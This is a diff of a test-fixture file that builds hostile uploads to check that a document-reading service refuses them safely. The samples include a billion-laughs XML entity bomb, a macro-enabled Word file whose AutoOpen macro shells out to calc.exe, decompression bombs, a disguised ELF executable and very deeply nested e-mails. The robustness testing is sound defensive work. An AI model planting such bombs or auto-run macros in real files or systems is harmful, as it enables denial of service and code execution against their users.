       const xml = `<?xml version="1.0"?>\n<!DOCTYPE w:document [\n${entities.join('\n')}\n]>\n<w:document xmlns:w="${W_NS}"><w:body><w:p><w:r><w:t>&lol9;</w:t></w:r></w:p></w:body></w:document>`;
       return Promise.resolve(minimalDocx({ name: 'word/document.xml', data: xml }));
     },
@@ -1237,9 +1485,17 @@ export const hostileFiles: HostileFile[] = [
               name: 'word/_rels/document.xml.rels',
               data: `${XML_DECLARATION}<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId9" Type="http://schemas.microsoft.com/office/2006/relationships/vbaProject" Target="vbaProject.bin"/></Relationships>`,
             },
-            { name: 'word/vbaProject.bin', data: compoundFile([{ name: 'VBA', data: utf8('Sub AutoOpen()\r\n  Shell "cmd /c calc.exe"\r\nEnd Sub\r\n') }]) },
+            {
+              name: 'word/vbaProject.bin',
+              data: compoundFile([
+                { name: 'VBA', data: utf8('Sub AutoOpen()\r\n  Shell "cmd /c calc.exe"\r\nEnd Sub\r\n') },
+              ]),
+            },
           ],
-          contentTypes('application/vnd.ms-word.document.macroEnabled.main+xml', '<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/>'),
+          contentTypes(
+            'application/vnd.ms-word.document.macroEnabled.main+xml',
+            '<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/>',
+          ),
         ),
       ),
     expect: { text: { contains: ['Søknad med makro'] } },
@@ -1252,7 +1508,10 @@ export const hostileFiles: HostileFile[] = [
       Promise.resolve(
         makeZip([
           { name: 'mimetype', data: 'application/vnd.oasis.opendocument.text', store: true },
-          { name: 'META-INF/manifest.xml', data: `${XML_DECLARATION}<manifest:manifest xmlns:manifest="urn:oasis:names:tc:opendocument:xmlns:manifest:1.0"/>` },
+          {
+            name: 'META-INF/manifest.xml',
+            data: `${XML_DECLARATION}<manifest:manifest xmlns:manifest="urn:oasis:names:tc:opendocument:xmlns:manifest:1.0"/>`,
+          },
         ]),
       ),
     expect: unreadable,
@@ -1299,12 +1558,21 @@ export const hostileFiles: HostileFile[] = [
       why: 'RTF sets no depth limit: a reader with its own stack reads the line; one with a depth limit refuses it (too-complex, or unreadable); a crash or a hang is what must not happen',
     },
   },
-  { name: 'rtf-empty', fileName: 'soknad.rtf', what: 'an RTF document with no content at all: {\\rtf1}', bytes: Buffer.from('{\\rtf1}'), expect: unreadable },
+  {
+    name: 'rtf-empty',
+    fileName: 'soknad.rtf',
+    what: 'an RTF document with no content at all: {\\rtf1}',
+    bytes: Buffer.from('{\\rtf1}'),
+    expect: unreadable,
+  },
   {
     name: 'rtf-control-characters',
     fileName: 'soknad.rtf',
     what: 'NUL, BEL, ESC and DEL as hex escapes between readable words',
-    bytes: Buffer.from("{\\rtf1\\ansi\\ansicpg1252 S\\'f8knad med kontrolltegn\\par \\'00\\'07\\'1b[31m\\'7f\\'00 og tekst etterp\\'e5\\par}", 'latin1'),
+    bytes: Buffer.from(
+      "{\\rtf1\\ansi\\ansicpg1252 S\\'f8knad med kontrolltegn\\par \\'00\\'07\\'1b[31m\\'7f\\'00 og tekst etterp\\'e5\\par}",
+      'latin1',
+    ),
     expect: { text: { contains: ['Søknad med kontrolltegn', 'og tekst etterpå'] } },
   },
   {
@@ -1327,7 +1595,13 @@ export const hostileFiles: HostileFile[] = [
     },
     expect: unreadable,
   },
-  { name: 'png-truncated', fileName: 'skanning.png', what: 'a PNG of noise cut in the middle of its image data', bytes: () => Promise.resolve(cut(makePng(400, 300, true), 0.5)), expect: unreadable },
+  {
+    name: 'png-truncated',
+    fileName: 'skanning.png',
+    what: 'a PNG of noise cut in the middle of its image data',
+    bytes: () => Promise.resolve(cut(makePng(400, 300, true), 0.5)),
+    expect: unreadable,
+  },
   {
     name: 'png-decompression-bomb',
     fileName: 'skanning.png',
@@ -1342,14 +1616,23 @@ export const hostileFiles: HostileFile[] = [
     bytes: Buffer.from('FFD8FFE000104A46494600010100004800480000', 'hex'),
     expect: unreadable,
   },
-  { name: 'tiff-truncated', fileName: 'skanning.tif', what: "a TIFF whose 1 MB strip stops after 1 000 bytes", bytes: () => Promise.resolve(truncatedTiff()), expect: unreadable },
+  {
+    name: 'tiff-truncated',
+    fileName: 'skanning.tif',
+    what: 'a TIFF whose 1 MB strip stops after 1 000 bytes',
+    bytes: () => Promise.resolve(truncatedTiff()),
+    expect: unreadable,
+  },
 
   // --- E-mail --------------------------------------------------------------------------------------------------
   {
     name: 'eml-no-attachments',
     fileName: 'soknad.eml',
     what: 'an e-mail with only a text body',
-    bytes: () => Promise.resolve(makeEmail({ subject: 'Soknad kommer', id: 'no-attachments', body: 'Søknaden kommer i eget brev.' })),
+    bytes: () =>
+      Promise.resolve(
+        makeEmail({ subject: 'Soknad kommer', id: 'no-attachments', body: 'Søknaden kommer i eget brev.' }),
+      ),
     expect: { parts: [{ file: 'soknad.eml', outcome: unreadable }], count: 1 },
   },
   {
@@ -1361,7 +1644,11 @@ export const hostileFiles: HostileFile[] = [
         makeEmail({
           subject: 'Mange vedlegg',
           id: 'many',
-          attachments: Array.from({ length: 500 }, (_, i) => ({ fileName: `vedlegg-${i + 1}.pdf`, contentType: 'application/pdf', bytes: Buffer.from('x') })),
+          attachments: Array.from({ length: 500 }, (_, i) => ({
+            fileName: `vedlegg-${i + 1}.pdf`,
+            contentType: 'application/pdf',
+            bytes: Buffer.from('x'),
+          })),
         }),
       ),
     expect: { parts: [{ outcome: { code: 'too-large' } }], maxCount: 1 },
@@ -1370,14 +1657,16 @@ export const hostileFiles: HostileFile[] = [
     name: 'eml-nested-3-deep',
     fileName: 'soknad.eml',
     what: 'a PDF in an e-mail attached to an e-mail attached to an e-mail attached to the e-mail: three message/rfc822 levels, within the default maxEmailDepth of 3',
-    bytes: async () => nestedEmail(3, [{ fileName: 'soknad.pdf', contentType: 'application/pdf', bytes: await goodPdf() }]),
+    bytes: async () =>
+      nestedEmail(3, [{ fileName: 'soknad.pdf', contentType: 'application/pdf', bytes: await goodPdf() }]),
     expect: { parts: [{ file: /soknad\.pdf$/, outcome: { text: { contains: GOOD_LINES } } }], count: 1 },
   },
   {
     name: 'eml-nested-50-deep',
     fileName: 'soknad.eml',
     what: 'a PDF in an e-mail forwarded as an attachment 50 times',
-    bytes: async () => nestedEmail(50, [{ fileName: 'soknad.pdf', contentType: 'application/pdf', bytes: await goodPdf() }]),
+    bytes: async () =>
+      nestedEmail(50, [{ fileName: 'soknad.pdf', contentType: 'application/pdf', bytes: await goodPdf() }]),
     expect: { parts: [{ outcome: { code: 'too-large' } }], noPartContains: GOOD_LINES },
   },
   {
@@ -1387,16 +1676,28 @@ export const hostileFiles: HostileFile[] = [
     bytes: async () => {
       const bomb = minimalDocx({
         name: 'word/document.xml',
-        deflated: deflateRuns([utf8(`${DOCUMENT_OPEN}<w:p><w:r><w:t>`), { repeat: 'a', times: 3 * GiB }, utf8(`</w:t></w:r></w:p>${DOCUMENT_CLOSE}`)]),
+        deflated: deflateRuns([
+          utf8(`${DOCUMENT_OPEN}<w:p><w:r><w:t>`),
+          { repeat: 'a', times: 3 * GiB },
+          utf8(`</w:t></w:r></w:p>${DOCUMENT_CLOSE}`),
+        ]),
       });
       return makeEmail({
         subject: 'Soknad med vedlegg',
         id: 'hostile-attachments',
         attachments: [
           { fileName: 'soknad.pdf', contentType: 'application/pdf', bytes: await goodPdf() },
-          { fileName: 'budsjett.docx', contentType: 'application/vnd.openxmlformats-officedocument.wordprocessingml.document', bytes: bomb },
+          {
+            fileName: 'budsjett.docx',
+            contentType: 'application/vnd.openxmlformats-officedocument.wordprocessingml.document',
+            bytes: bomb,
+          },
           { fileName: 'faktura.pdf', contentType: 'application/pdf', bytes: elfHeader() },
-          { fileName: 'vedlegg.pdf', contentType: 'application/pdf', bytes: encryptedPdf('aes-256', ['Hemmelig'], 'hemmelig', 'eier') },
+          {
+            fileName: 'vedlegg.pdf',
+            contentType: 'application/pdf',
+            bytes: encryptedPdf('aes-256', ['Hemmelig'], 'hemmelig', 'eier'),
+          },
         ],
       });
     },
@@ -1414,10 +1715,20 @@ export const hostileFiles: HostileFile[] = [
     name: 'eml-deep-mime-tree',
     fileName: 'soknad.eml',
     what: 'a PDF inside 5 000 nested multipart/mixed containers',
-    bytes: async () => deepMultipartEmail(5000, { fileName: 'soknad.pdf', contentType: 'application/pdf', bytes: await goodPdf() }),
+    bytes: async () =>
+      deepMultipartEmail(5000, { fileName: 'soknad.pdf', contentType: 'application/pdf', bytes: await goodPdf() }),
     limits: { timeoutMs: 20_000 },
     expect: {
-      parts: [{ outcome: [{ text: { contains: GOOD_LINES } }, { code: 'too-complex' }, { code: 'too-large' }, { code: 'unreadable' }] }],
+      parts: [
+        {
+          outcome: [
+            { text: { contains: GOOD_LINES } },
+            { code: 'too-complex' },
+            { code: 'too-large' },
+            { code: 'unreadable' },
+          ],
+        },
+      ],
       count: 1,
       why: 'no mail client nests MIME 5 000 deep: the attachment may be read, or the e-mail refused as too deep (too-large), too costly (too-complex) or malformed (unreadable); a hang or a crash must not happen',
     },
